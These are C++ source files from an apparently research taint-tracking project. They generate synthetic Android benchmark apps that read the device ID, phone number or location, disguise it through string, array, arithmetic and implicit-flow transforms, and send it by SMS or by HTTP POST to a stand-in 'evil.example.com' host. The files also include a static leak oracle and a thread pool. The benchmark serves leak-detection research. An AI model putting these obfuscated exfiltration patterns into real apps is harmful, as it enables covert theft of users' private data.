            b.invokeStatic(ctx.lib.sb_append, 2, 0);
            b.moveObject(4, 5);
            b.invokeStatic(ctx.lib.sb_to_string, 1, 4);
            b.moveResultObject(6);
            emitSms(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"StringBuilder_Multi_Http", "Strings", true,
        [](AppContext &ctx) {
            auto b = appMain("SbMulti");
            b.invokeStatic(ctx.lib.sb_init, 0, 0);
            b.moveResultObject(5);
            emitConst(ctx, b, 6, "id=");
            b.moveObject(0, 5);
            b.moveObject(1, 6);
            b.invokeStatic(ctx.lib.sb_append, 2, 0);
            emitSource(b, ctx.env.get_device_id, 10);
            b.moveObject(0, 5);
            b.moveObject(1, 10);
            b.invokeStatic(ctx.lib.sb_append, 2, 0);
            emitConst(ctx, b, 6, "&v=2");
            b.moveObject(0, 5);
            b.moveObject(1, 6);
            b.invokeStatic(ctx.lib.sb_append, 2, 0);
            b.moveObject(4, 5);
            b.invokeStatic(ctx.lib.sb_to_string, 1, 4);
            b.moveResultObject(7);
            emitHttp(ctx, b, 7);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Substring_Sms", "Strings", true,
        [](AppContext &ctx) {
            auto b = appMain("Substring");
            emitSource(b, ctx.env.get_device_id, 10);
            b.moveObject(0, 10);
            b.const4(1, 2);
            b.const16(2, 10);
            b.invokeStatic(ctx.lib.string_substring, 3, 0);
            b.moveResultObject(6);
            emitSms(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"ToCharArray_Http", "ArraysAndLists", true,
        [](AppContext &ctx) {
            auto b = appMain("ToCharArray");
            emitSource(b, ctx.env.get_device_id, 10);
            b.moveObject(4, 10);
            b.invokeStatic(ctx.lib.string_to_char_array, 1, 4);
            b.moveResultObject(5);
            b.moveObject(4, 5);
            b.invokeStatic(ctx.lib.string_from_char_array, 1, 4);
            b.moveResultObject(6);
            emitHttp(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"ArrayCopy_Sms", "ArraysAndLists", true,
        [](AppContext &ctx) {
            auto b = appMain("ArrayCopy");
            emitSource(b, ctx.env.get_device_id, 10);
            b.moveObject(4, 10);
            b.invokeStatic(ctx.lib.string_to_char_array, 1, 4);
            b.moveResultObject(5);          // src char[]
            b.const16(6, 20);
            b.newArray(7, 6,
                       static_cast<uint16_t>(
                           ctx.dex.charArrayClass()));
            b.moveObject(0, 5);
            b.const4(1, 0);
            b.moveObject(2, 7);
            b.const4(3, 0);
            b.const4(4, 7);
            b.invokeStatic(ctx.lib.array_copy, 5, 0);
            b.moveObject(4, 7);
            b.invokeStatic(ctx.lib.string_from_char_array, 1, 4);
            b.moveResultObject(8);
            emitSms(ctx, b, 8);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"CharLoop_Rebuild_Sms", "Strings", true,
        [](AppContext &ctx) {
            auto b = appMain("CharLoopRebuild");
            emitSource(b, ctx.env.get_device_id, 10);
            emitCharTransform(ctx, b, [](MethodBuilder &) {});
            emitSms(ctx, b, 9);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"CharLoop_ValueOf_Http", "Strings", true,
        [](AppContext &ctx) {
            auto b = appMain("CharLoopValueOf");
            emitSource(b, ctx.env.get_device_id, 10);
            emitConst(ctx, b, 11, "");      // result accumulator
            b.moveObject(4, 10);
            b.invokeStatic(ctx.lib.string_length, 1, 4);
            b.moveResult(12);
            b.const4(13, 0);
            b.label("loop");
            b.ifGe(13, 12, "done");
            b.moveObject(4, 10);
            b.move(5, 13);
            b.invokeStatic(ctx.lib.string_char_at, 2, 4);
            b.moveResult(6);
            b.move(4, 6);
            b.invokeStatic(ctx.lib.string_value_of_char, 1, 4);
            b.moveResultObject(7);
            emitConcat(ctx, b, 11, 11, 7);
            b.addIntLit8(13, 13, 1);
            b.gotoLabel("loop");
            b.label("done");
            emitHttp(ctx, b, 11);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Loop_ChunkedConcat_Sms", "Strings", true,
        [](AppContext &ctx) {
            auto b = appMain("ChunkedConcat");
            emitSource(b, ctx.env.get_device_id, 10);
            b.moveObject(0, 10);
            b.const4(1, 0);
            b.const4(2, 5);
            b.invokeStatic(ctx.lib.string_substring, 3, 0);
            b.moveResultObject(11);
            emitCooldown(b, 6, "cd1");
            b.moveObject(0, 10);
            b.const4(1, 5);
            b.const16(2, 10);
            b.invokeStatic(ctx.lib.string_substring, 3, 0);
            b.moveResultObject(12);
            emitCooldown(b, 6, "cd2");
            emitConcat(ctx, b, 13, 11, 12);
            emitSms(ctx, b, 13);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"TwoSources_Sms", "Strings", true,
        [](AppContext &ctx) {
            auto b = appMain("TwoSources");
            emitSource(b, ctx.env.get_device_id, 10);
            emitSource(b, ctx.env.get_line1_number, 11);
            emitConcat(ctx, b, 12, 10, 11);
            emitSms(ctx, b, 12);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"SplitJoin_Http", "Strings", true,
        [](AppContext &ctx) {
            auto b = appMain("SplitJoin");
            emitSource(b, ctx.env.get_line1_number, 10);
            b.moveObject(0, 10);
            b.const4(1, 0);
            b.const4(2, 6);
            b.invokeStatic(ctx.lib.string_substring, 3, 0);
            b.moveResultObject(11);
            b.moveObject(0, 10);
            b.const4(1, 6);
            b.moveObject(4, 10);
            b.invokeStatic(ctx.lib.string_length, 1, 4);
            b.moveResult(2);
            b.invokeStatic(ctx.lib.string_substring, 3, 0);
            b.moveResultObject(12);
            emitConcat(ctx, b, 13, 12, 11); // swapped halves
            emitHttp(ctx, b, 13);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"StringBuilder_Grow_Sms", "Strings", true,
        [](AppContext &ctx) {
            auto b = appMain("SbGrow");
            emitSource(b, ctx.env.get_device_id, 10);
            b.invokeStatic(ctx.lib.sb_init, 0, 0);
            b.moveResultObject(5);
            b.const4(13, 0);
            b.label("loop");
            b.const4(6, 6);
            b.ifGe(13, 6, "done");          // 6 appends of 15 chars
            b.moveObject(0, 5);
            b.moveObject(1, 10);
            b.invokeStatic(ctx.lib.sb_append, 2, 0);
            b.addIntLit8(13, 13, 1);
            b.gotoLabel("loop");
            b.label("done");
            b.moveObject(4, 5);
            b.invokeStatic(ctx.lib.sb_to_string, 1, 4);
            b.moveResultObject(7);
            emitSms(ctx, b, 7);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Parse_Reformat_Log", "Strings", true,
        [](AppContext &ctx) {
            auto b = appMain("ParseReformat");
            emitSource(b, ctx.env.get_line1_number, 10);
            b.moveObject(0, 10);
            b.const4(1, 1);                 // skip '+'
            b.const4(2, 7);
            b.invokeStatic(ctx.lib.string_substring, 3, 0);
            b.moveResultObject(11);
            b.moveObject(4, 11);
            b.invokeStatic(ctx.lib.int_parse, 1, 4);
            b.moveResult(12);
            b.move(4, 12);
            b.invokeStatic(ctx.lib.int_to_string, 1, 4);
            b.moveResultObject(13);
            emitConst(ctx, b, 5, "n=");
            emitConcat(ctx, b, 6, 5, 13);
            emitLog(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    // ---- Primitive flows through fields / arrays / arithmetic ------

    apps.push_back({"FieldChar_Leak_Sms", "FieldSensitivity", true,
        [](AppContext &ctx) {
            auto holder = ctx.dex.addClass({"CharHolder", 2, 0, {}});
            auto b = appMain("FieldChar");
            emitSource(b, ctx.env.get_device_id, 10);
            b.newInstance(3, static_cast<uint16_t>(holder));
            emitCharTransform(ctx, b, [&](MethodBuilder &mb) {
                mb.iput(6, 3, 0);           // holder.c = ch (d4)
                mb.iget(6, 3, 0);           // ch = holder.c (d5)
            });
            emitSms(ctx, b, 9);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"StaticChar_Leak_Http", "FieldSensitivity", true,
        [](AppContext &ctx) {
            auto slot = ctx.dex.addStatic("leak_char");
            auto b = appMain("StaticChar");
            emitSource(b, ctx.env.get_device_id, 10);
            emitCharTransform(ctx, b, [&](MethodBuilder &mb) {
                mb.sput(6, slot);           // d2
                mb.sget(6, slot);           // d3
            });
            emitHttp(ctx, b, 9);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"IntArray_Chars_Sms", "ArraysAndLists", true,
        [](AppContext &ctx) {
            auto b = appMain("IntArrayChars");
            emitSource(b, ctx.env.get_device_id, 10);
            b.const16(2, 32);
            b.newArray(3, 2,
                       static_cast<uint16_t>(ctx.dex.intArrayClass()));
            emitCharTransform(ctx, b, [](MethodBuilder &mb) {
                mb.aput(6, 3, 13);          // arr[i] = ch (d2)
                mb.aget(6, 3, 13);          // ch = arr[i] (d2)
            });
            emitSms(ctx, b, 9);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Arith_PlusOne_Sms", "Obfuscation", true,
        [](AppContext &ctx) {
            auto b = appMain("ArithPlusOne");
            emitSource(b, ctx.env.get_device_id, 10);
            emitCharTransform(ctx, b, [](MethodBuilder &mb) {
                mb.addIntLit8(6, 6, 1);     // d5
            });
            emitSms(ctx, b, 9);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"IntToChar_Leak_Http", "Obfuscation", true,
        [](AppContext &ctx) {
            auto b = appMain("IntToChar");
            emitSource(b, ctx.env.get_device_id, 10);
            emitCharTransform(ctx, b, [](MethodBuilder &mb) {
                mb.addIntLit8(6, 6, 2);
                mb.intToChar(6, 6);         // d6
            });
            emitHttp(ctx, b, 9);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Xor_Obfuscate_Log", "Obfuscation", true,
        [](AppContext &ctx) {
            auto b = appMain("XorObfuscate");
            emitSource(b, ctx.env.get_device_id, 10);
            emitCharTransform(ctx, b, [](MethodBuilder &mb) {
                mb.const4(5, 5);
                mb.binop2addr(Bc::XorInt2Addr, 6, 5); // d5
            });
            emitLog(ctx, b, 9);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"SumChars_Sms", "Obfuscation", true,
        [](AppContext &ctx) {
            auto b = appMain("SumChars");
            emitSource(b, ctx.env.get_device_id, 10);
            // v3 = sum of chars (derived sensitive data)
            b.const4(3, 0);
            b.moveObject(4, 10);
            b.invokeStatic(ctx.lib.string_length, 1, 4);
            b.moveResult(12);
            b.const4(13, 0);
            b.label("loop");
            b.ifGe(13, 12, "done");
            b.moveObject(4, 10);
            b.move(5, 13);
            b.invokeStatic(ctx.lib.string_char_at, 2, 4);
            b.moveResult(6);
            b.binop2addr(Bc::AddInt2Addr, 3, 6);
            b.addIntLit8(13, 13, 1);
            b.gotoLabel("loop");
            b.label("done");
            b.move(4, 3);
            b.invokeStatic(ctx.lib.int_to_string, 1, 4);
            b.moveResultObject(7);
            emitConst(ctx, b, 5, "sum=");
            emitConcat(ctx, b, 8, 5, 7);
            emitSms(ctx, b, 8);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"Div_Obfuscate_Http", "Obfuscation", true,
        [](AppContext &ctx) {
            auto b = appMain("DivObfuscate");
            emitSource(b, ctx.env.get_device_id, 10);
            emitCharTransform(ctx, b, [](MethodBuilder &mb) {
                mb.const4(5, 2);
                mb.binop(Bc::DivInt, 6, 6, 5); // ABI helper, long
            });
            emitHttp(ctx, b, 9);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    // ---- Location (float / ABI) flows ------------------------------

    apps.push_back({"GPS_Latitude_Sms", "AndroidSpecific", true,
        [](AppContext &ctx) {
            // The Figure 11 story: float-to-string needs NI >= 10.
            auto b = appMain("GpsLatitude");
            b.invokeStatic(ctx.env.get_location, 0, 0);
            b.moveResultObject(10);
            b.moveObject(4, 10);
            b.invokeStatic(ctx.env.location_get_latitude, 1, 4);
            b.moveResult(11);
            b.move(4, 11);
            b.invokeStatic(ctx.lib.float_to_string, 1, 4);
            b.moveResultObject(12);
            emitConst(ctx, b, 5, "loc=");
            emitConcat(ctx, b, 6, 5, 12);
            emitSms(ctx, b, 6);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"GPS_FloatAvg_Sms", "AndroidSpecific", true,
        [](AppContext &ctx) {
            auto b = appMain("GpsFloatAvg");
            b.invokeStatic(ctx.env.get_location, 0, 0);
            b.moveResultObject(10);
            b.moveObject(4, 10);
            b.invokeStatic(ctx.env.location_get_latitude, 1, 4);
            b.moveResult(11);
            b.moveObject(4, 10);
            b.invokeStatic(ctx.env.location_get_longitude, 1, 4);
            b.moveResult(12);
            b.binop2addr(Bc::AddFloat2Addr, 11, 12); // ABI helper
            b.move(4, 11);
            b.invokeStatic(ctx.lib.float_to_string, 1, 4);
            b.moveResultObject(13);
            emitSms(ctx, b, 13);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"LocationString_Http", "AndroidSpecific", true,
        [](AppContext &ctx) {
            auto b = appMain("LocationString");
            emitSource(b, ctx.env.get_location_string, 10);
            emitConst(ctx, b, 4, "pos=");
            emitConcat(ctx, b, 5, 4, 10);
            emitHttp(ctx, b, 5);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    // ---- Implicit flows (Section 4.2) -------------------------------

    apps.push_back({"ImplicitFlow1_Sms", "ImplicitFlows", true,
        [](AppContext &ctx) {
            auto b = appMain("ImplicitFlow1");
            emitSource(b, ctx.env.get_device_id, 10);
            emitImplicitSwitch(ctx, b, 0, false);
            emitSms(ctx, b, 9);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    apps.push_back({"ImplicitFlow2_Http", "ImplicitFlows", true,
        [](AppContext &ctx) {
            auto b = appMain("ImplicitFlow2");
            emitSource(b, ctx.env.get_line1_number, 10);
            emitImplicitSwitch(ctx, b, 0, true, 1);
            emitHttp(ctx, b, 9);
            b.returnVoid();
            return ctx.dex.addMethod(b.finish());
        }});

    return apps;
}

} // namespace pift::droidbench
