#include "droidbench/helpers.hh"

namespace pift::droidbench
{

using dalvik::MethodBuilder;

void
emitCooldown(MethodBuilder &b, int iters, const std::string &tag)
{
    // v0 = iters; while (v0 != 0) { v1 = v1 + v0; v0-- }
    b.const16(0, static_cast<int16_t>(iters));
    b.const4(1, 0);
    b.label(tag + "_loop");
    b.ifEqz(0, tag + "_done");
    b.binop2addr(dalvik::Bc::AddInt2Addr, 1, 0);
    b.addIntLit8(0, 0, -1);
    b.gotoLabel(tag + "_loop");
    b.label(tag + "_done");
}

void
emitSource(MethodBuilder &b, dalvik::MethodId source, uint8_t dst)
{
    b.invokeStatic(source, 0, 0);
    b.moveResultObject(dst);
}

void
emitSms(AppContext &ctx, MethodBuilder &b, uint8_t msg_reg)
{
    b.constString(0, ctx.dex.addString("+15559876543"));
    b.moveObject(1, msg_reg);
    b.invokeStatic(ctx.env.send_text_message, 2, 0);
}

void
emitHttp(AppContext &ctx, MethodBuilder &b, uint8_t body_reg)
{
    b.constString(0, ctx.dex.addString("http://evil.example.com/up"));
    b.moveObject(1, body_reg);
    b.invokeStatic(ctx.env.http_post, 2, 0);
}

void
emitLog(AppContext &ctx, MethodBuilder &b, uint8_t msg_reg)
{
    b.constString(0, ctx.dex.addString("APP"));
    b.moveObject(1, msg_reg);
    b.invokeStatic(ctx.env.log_d, 2, 0);
}

void
emitConcat(AppContext &ctx, MethodBuilder &b, uint8_t dst, uint8_t a,
           uint8_t bq)
{
    b.moveObject(0, a);
    b.moveObject(1, bq);
    b.invokeStatic(ctx.lib.string_concat, 2, 0);
    b.moveResultObject(dst);
}

void
emitConst(AppContext &ctx, MethodBuilder &b, uint8_t dst,
          const std::string &text)
{
    b.constString(dst, ctx.dex.addString(text));
}

} // namespace pift::droidbench
