/**
 * @file
 * Shared bytecode idioms for the benchmark apps.
 *
 * Register convention for app main methods: nregs = 14, no
 * arguments. v0-v3 are scratch for helpers; apps use v4-v13.
 */

#ifndef PIFT_DROIDBENCH_HELPERS_HH
#define PIFT_DROIDBENCH_HELPERS_HH

#include <string>

#include "droidbench/app.hh"

namespace pift::droidbench
{

/** Standard frame size for app main methods. */
inline constexpr uint16_t app_nregs = 14;

/**
 * Emit a benign compute loop (~8 * iters instructions) clobbering
 * v0/v1. Benign apps place this between touching sensitive data and
 * building their outgoing message so leftover tainting windows are
 * long closed (the paper's argument for why mis-tainting rarely
 * becomes a false positive).
 *
 * @param b method under construction
 * @param iters loop iterations
 * @param tag unique label prefix within the method
 */
void emitCooldown(dalvik::MethodBuilder &b, int iters,
                  const std::string &tag);

/** Invoke a 0-arg framework source and leave the result in @p dst. */
void emitSource(dalvik::MethodBuilder &b, dalvik::MethodId source,
                uint8_t dst);

/**
 * Emit an SMS send of the string in @p msg_reg: stages a constant
 * phone number in v0 and the message in v1.
 */
void emitSms(AppContext &ctx, dalvik::MethodBuilder &b,
             uint8_t msg_reg);

/** Emit an HTTP post of @p body_reg with a constant URL. */
void emitHttp(AppContext &ctx, dalvik::MethodBuilder &b,
              uint8_t body_reg);

/** Emit a Log.d of @p msg_reg with a constant tag. */
void emitLog(AppContext &ctx, dalvik::MethodBuilder &b,
             uint8_t msg_reg);

/** Emit concat: @p dst <- @p a + @p b (stages into v0/v1). */
void emitConcat(AppContext &ctx, dalvik::MethodBuilder &b,
                uint8_t dst, uint8_t a, uint8_t bq);

/** Emit: @p dst <- interned constant string @p text. */
void emitConst(AppContext &ctx, dalvik::MethodBuilder &b, uint8_t dst,
               const std::string &text);

} // namespace pift::droidbench

#endif // PIFT_DROIDBENCH_HELPERS_HH
