#include "droidbench/apps.hh"

#include "support/logging.hh"

namespace pift::droidbench
{

const std::vector<AppEntry> &
droidBenchApps()
{
    static const std::vector<AppEntry> apps = [] {
        std::vector<AppEntry> all = leakyApps();
        std::vector<AppEntry> benign = benignApps();
        all.insert(all.end(), benign.begin(), benign.end());
        size_t leaky = 0;
        for (const auto &a : all)
            leaky += a.leaks ? 1 : 0;
        pift_assert(leaky == 41 && all.size() == 57,
                    "DroidBench suite must be 41 leaky + 16 benign "
                    "(have %zu leaky of %zu)", leaky, all.size());
        return all;
    }();
    return apps;
}

const std::vector<AppEntry> &
malwareApps()
{
    static const std::vector<AppEntry> apps = [] {
        std::vector<AppEntry> all = malwareAppEntries();
        pift_assert(all.size() == 7, "expected seven malware analogs");
        return all;
    }();
    return apps;
}

} // namespace pift::droidbench
