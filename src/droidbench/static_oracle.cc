#include "droidbench/static_oracle.hh"

namespace pift::droidbench
{

using static_analysis::NativeModel;
using static_analysis::OracleConfig;

OracleConfig
oracleConfigFor(const AppContext &ctx)
{
    OracleConfig config;
    config.char_array_cls = ctx.dex.charArrayClass();
    config.sb_buf_offset = runtime::JavaLib::sb_field_buf;

    auto model = [&config](dalvik::MethodId id, NativeModel::Kind kind,
                           std::set<dalvik::ClassId> ret_pts = {}) {
        NativeModel m;
        m.kind = kind;
        m.ret_pts = std::move(ret_pts);
        config.natives[id] = std::move(m);
    };

    const android::AndroidEnv &env = ctx.env;
    const runtime::JavaLib &lib = ctx.lib;

    // Sources. getLastKnownLocation returns a Location object whose
    // fields the oracle tracks; the string sources return opaque
    // tainted references.
    model(env.get_device_id, NativeModel::Kind::Source);
    model(env.get_line1_number, NativeModel::Kind::Source);
    model(env.get_serial, NativeModel::Kind::Source);
    model(env.get_sim_id, NativeModel::Kind::Source);
    model(env.get_location_string, NativeModel::Kind::Source);
    model(env.get_location, NativeModel::Kind::Source,
          {env.location_cls});

    // Sinks.
    model(env.send_text_message, NativeModel::Kind::Sink);
    model(env.http_post, NativeModel::Kind::Sink);
    model(env.log_d, NativeModel::Kind::Sink);

    // Intent extras are one opaque summary slot per Intent class.
    model(env.intent_init, NativeModel::Kind::Alloc, {env.intent_cls});
    model(env.intent_put_extra, NativeModel::Kind::IntentPut);
    model(env.intent_get_extra, NativeModel::Kind::IntentGet);
    model(env.handler_post, NativeModel::Kind::HandlerPost);

    // StringBuilder: init points the buf field at char[] so bytecode
    // appendChar stores land in the element summary the oracle reads
    // back through toString's deep-taint walk.
    model(lib.sb_init, NativeModel::Kind::SbInit,
          {lib.string_builder_cls});
    model(lib.sb_append, NativeModel::Kind::SbAppend);

    // Conversions pass taint through; toCharArray materialises a
    // char[] so later aget/aput see a points-to class.
    model(lib.string_to_char_array, NativeModel::Kind::Passthrough,
          {ctx.dex.charArrayClass()});
    model(lib.array_copy, NativeModel::Kind::ArrayCopy);

    // string_concat, substring, valueOf, fromCharArray, toString,
    // Integer/Float conversions: the Passthrough default already
    // models them (result deep-tainted iff any argument is).
    return config;
}

std::vector<StaticVerdict>
staticSweep(const std::vector<AppEntry> &apps)
{
    using static_analysis::OracleMode;
    std::vector<StaticVerdict> verdicts;
    verdicts.reserve(apps.size());
    for (const AppEntry &entry : apps) {
        AppContext ctx;
        dalvik::MethodId main = entry.declare(ctx);
        static_analysis::OracleConfig config = oracleConfigFor(ctx);
        static_analysis::OracleResult result =
            static_analysis::runOracle(ctx.dex, main, config,
                                       OracleMode::Explicit);
        static_analysis::OracleResult implicit =
            static_analysis::runOracle(ctx.dex, main, config,
                                       OracleMode::Implicit);
        StaticVerdict v;
        v.name = entry.name;
        v.category = entry.category;
        v.leaks_truth = entry.leaks;
        v.static_leaks = result.leaks;
        v.sinks = std::move(result.leak_sinks);
        v.iterations = result.outer_iterations;
        v.implicit_leaks = implicit.leaks;
        v.implicit_sinks = std::move(implicit.leak_sinks);
        v.implicit_iterations = implicit.outer_iterations;
        verdicts.push_back(std::move(v));
    }
    return verdicts;
}

std::vector<static_analysis::StaticPolicy>
derivePolicies(const std::vector<AppEntry> &apps)
{
    using static_analysis::OracleMode;
    static const static_analysis::WindowDerivation derivation =
        static_analysis::deriveWindowBounds();

    std::vector<static_analysis::StaticPolicy> policies;
    policies.reserve(apps.size());
    for (const AppEntry &entry : apps) {
        AppContext ctx;
        dalvik::MethodId main = entry.declare(ctx);
        static_analysis::OracleConfig config = oracleConfigFor(ctx);
        bool explicit_leaks =
            static_analysis::runOracle(ctx.dex, main, config,
                                       OracleMode::Explicit)
                .leaks;
        bool implicit_leaks =
            static_analysis::runOracle(ctx.dex, main, config,
                                       OracleMode::Implicit)
                .leaks;

        static_analysis::PolicyInputs inputs =
            static_analysis::analyzeUsage(ctx.dex, main);
        inputs.implicit_risk = implicit_leaks && !explicit_leaks;
        policies.push_back(static_analysis::derivePolicy(
            entry.name, inputs, derivation));
    }
    return policies;
}

} // namespace pift::droidbench
