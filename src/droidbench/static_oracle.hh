/**
 * @file
 * Binds the static taint oracle to the DroidBench registry.
 *
 * Each app is declared on its own fresh device (so per-app method ids
 * and heap summaries never bleed between apps), the framework and
 * library natives are mapped to oracle models, and the oracle
 * classifies the app leaky/benign without executing a single
 * instruction. bench_static_oracle cross-checks these verdicts
 * against the dynamic PIFT replay verdicts.
 */

#ifndef PIFT_DROIDBENCH_STATIC_ORACLE_HH
#define PIFT_DROIDBENCH_STATIC_ORACLE_HH

#include <string>
#include <vector>

#include "droidbench/app.hh"
#include "static/oracle.hh"
#include "static/policy.hh"

namespace pift::droidbench
{

/**
 * Oracle models for the framework/library natives installed on
 * @p ctx: sources taint their result, sinks flag deep-tainted
 * arguments, StringBuilder/Intent/arraycopy get heap-summary
 * semantics, and everything else passes taint through.
 */
static_analysis::OracleConfig oracleConfigFor(const AppContext &ctx);

/** One app's static classification, under both oracle modes. */
struct StaticVerdict
{
    std::string name;
    std::string category;
    bool leaks_truth = false;  //!< registry ground truth
    bool static_leaks = false; //!< explicit-mode oracle verdict
    std::vector<std::string> sinks; //!< sinks the explicit mode flagged
    unsigned iterations = 0;   //!< explicit-mode outer fixpoint rounds
    bool implicit_leaks = false; //!< implicit-mode oracle verdict
    std::vector<std::string> implicit_sinks;
    unsigned implicit_iterations = 0;
};

/**
 * Declare each of @p apps on a fresh device and classify it with the
 * explicit-mode oracle and again with the implicit-mode one.
 */
std::vector<StaticVerdict>
staticSweep(const std::vector<AppEntry> &apps);

/**
 * Derive each app's static policy (static/policy.hh): reachable
 * opcodes from a call-graph walk, implicit risk from the two oracle
 * verdicts (implicit leaky, explicit clean). The returned vector is
 * ordered like @p apps.
 */
std::vector<static_analysis::StaticPolicy>
derivePolicies(const std::vector<AppEntry> &apps);

} // namespace pift::droidbench

#endif // PIFT_DROIDBENCH_STATIC_ORACLE_HH
