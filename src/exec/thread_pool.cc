#include "exec/thread_pool.hh"

#include <atomic>
#include <cerrno>
#include <cstdlib>
#include <cstring>
#include <exception>
#include <limits>

namespace pift::exec
{

namespace
{

/** Active setDefaultJobs override; 0 = none. */
std::atomic<unsigned> g_jobs_override{0};

/** Set while the current thread is running pool tasks (see forEach). */
thread_local bool t_in_worker = false;

/**
 * Parse a job count that round-trips through unsigned. @return 0 for
 * malformed, non-positive, or out-of-range values — a narrowing cast
 * of e.g. 2^32 would silently yield 0 and *clear* the override.
 */
unsigned
parseJobs(const char *s)
{
    if (!s || !*s)
        return 0;
    char *end = nullptr;
    errno = 0;
    long long v = std::strtoll(s, &end, 10);
    if (*end || errno == ERANGE || v < 1 ||
        v > static_cast<long long>(std::numeric_limits<unsigned>::max()))
        return 0;
    return static_cast<unsigned>(v);
}

unsigned
envJobs()
{
    // Malformed values fall back to hardware detection.
    return parseJobs(std::getenv("PIFT_JOBS"));
}

} // anonymous namespace

unsigned
hardwareJobs()
{
    if (unsigned env = envJobs())
        return env;
    unsigned hw = std::thread::hardware_concurrency();
    return hw ? hw : 1;
}

unsigned
defaultJobs()
{
    unsigned o = g_jobs_override.load(std::memory_order_relaxed);
    return o ? o : hardwareJobs();
}

void
setDefaultJobs(unsigned n)
{
    g_jobs_override.store(n, std::memory_order_relaxed);
}

int
stripJobsFlag(int argc, char **argv)
{
    int out = 1;
    for (int i = 1; i < argc; ++i) {
        const char *arg = argv[i];
        const char *value = nullptr;
        if (std::strcmp(arg, "--jobs") == 0) {
            if (i + 1 >= argc)
                return -1;
            value = argv[++i];
        } else if (std::strncmp(arg, "--jobs=", 7) == 0) {
            value = arg + 7;
        } else {
            argv[out++] = argv[i];
            continue;
        }
        unsigned v = parseJobs(value);
        if (!v)
            return -1;
        setDefaultJobs(v);
    }
    return out;
}

/** One forEach call in flight: the task grid plus join state. */
struct ThreadPool::Batch
{
    size_t n = 0;
    const std::function<void(size_t)> *fn = nullptr;
    std::atomic<size_t> next{0};      //!< next unclaimed index
    std::atomic<bool> cancelled{false};
    std::exception_ptr error;         //!< guarded by pool mutex
    unsigned quota = 0;               //!< workers allowed to join
    unsigned joined = 0;              //!< workers that did join
    unsigned active = 0;              //!< participants still running
};

ThreadPool::ThreadPool(unsigned threads)
    : nthreads(threads ? threads : defaultJobs())
{
    if (nthreads < 1)
        nthreads = 1;
    workers.reserve(nthreads - 1);
    for (unsigned i = 0; i + 1 < nthreads; ++i)
        workers.emplace_back([this] { workerLoop(); });
}

ThreadPool::~ThreadPool()
{
    {
        std::lock_guard<std::mutex> lock(mutex);
        stopping = true;
    }
    work_cv.notify_all();
    for (auto &w : workers)
        w.join();
}

void
ThreadPool::runBatch(Batch &b)
{
    t_in_worker = true;
    size_t i;
    while (!b.cancelled.load(std::memory_order_relaxed) &&
           (i = b.next.fetch_add(1, std::memory_order_relaxed)) < b.n) {
        try {
            (*b.fn)(i);
        } catch (...) {
            std::lock_guard<std::mutex> lock(mutex);
            if (!b.error)
                b.error = std::current_exception();
            b.cancelled.store(true, std::memory_order_relaxed);
        }
    }
    t_in_worker = false;
}

void
ThreadPool::workerLoop()
{
    uint64_t seen = 0;
    std::unique_lock<std::mutex> lock(mutex);
    for (;;) {
        work_cv.wait(lock, [&] {
            return stopping || (batch && generation != seen);
        });
        if (stopping)
            return;
        seen = generation;
        Batch *b = batch;
        if (b->joined >= b->quota)
            continue; // this batch is capped below the pool size
        ++b->joined;
        ++b->active;
        lock.unlock();
        runBatch(*b);
        lock.lock();
        if (--b->active == 0)
            done_cv.notify_all();
    }
}

void
ThreadPool::forEach(size_t n, const std::function<void(size_t)> &fn,
                    unsigned max_jobs)
{
    unsigned jobs = max_jobs ? std::min(max_jobs, nthreads) : nthreads;
    // Inline paths: trivial grids, one-way parallelism, and nested
    // calls from inside a task (a worker must never block on its own
    // pool). Exceptions propagate naturally here.
    if (n <= 1 || jobs <= 1 || t_in_worker) {
        for (size_t i = 0; i < n; ++i)
            fn(i);
        return;
    }

    std::lock_guard<std::mutex> submit(submit_mutex);
    Batch b;
    b.n = n;
    b.fn = &fn;
    b.quota = jobs - 1; // the calling thread is the jobs-th participant
    {
        std::lock_guard<std::mutex> lock(mutex);
        b.active = 1; // the caller, counted so done_cv waits for it
        batch = &b;
        ++generation;
    }
    work_cv.notify_all();
    runBatch(b);
    {
        std::unique_lock<std::mutex> lock(mutex);
        // Un-publish first: a worker that wakes late finds no batch
        // and never touches &b after this frame unwinds.
        batch = nullptr;
        --b.active;
        done_cv.wait(lock, [&] { return b.active == 0; });
    }
    if (b.error)
        std::rethrow_exception(b.error);
}

namespace
{

/**
 * Hand out the shared pool, rebuilding it when @p want exceeds the
 * live pool's width — a setDefaultJobs / --jobs override applied
 * after first use was previously capped forever at the original
 * size because forEach clamps jobs to nthreads. Retired pools are
 * parked (idle, workers blocked on their condvar) so ThreadPool
 * references returned by globalPool() before a rebuild stay valid;
 * rebuilds only ever widen, so the parked list stays tiny.
 */
std::shared_ptr<ThreadPool>
acquireGlobalPool(unsigned want)
